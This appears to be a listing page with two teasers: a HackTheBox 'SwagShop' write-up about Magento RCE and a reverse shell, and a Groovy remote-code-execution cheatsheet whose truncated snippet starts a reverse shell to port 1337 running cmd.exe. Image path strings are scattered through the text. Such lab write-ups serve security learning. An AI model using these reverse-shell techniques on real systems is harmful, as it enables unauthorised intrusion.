HackTheBox — SwagShop Writeup image

SwagShop fromHackTheBox is an retired machine which had a web service running with an outdated vulnerable Magento CMS that allows us to perform an RCE using Froghopper Attack and get a reverse ...

Groovy Script — Remote Code Execution image

This cheatsheetdescribes various methods for executingremote code in Groovy Language to get an reverse shell. Method 1: Stringhost=""; int port=1337;String cmd="cmd.exe"; Proce...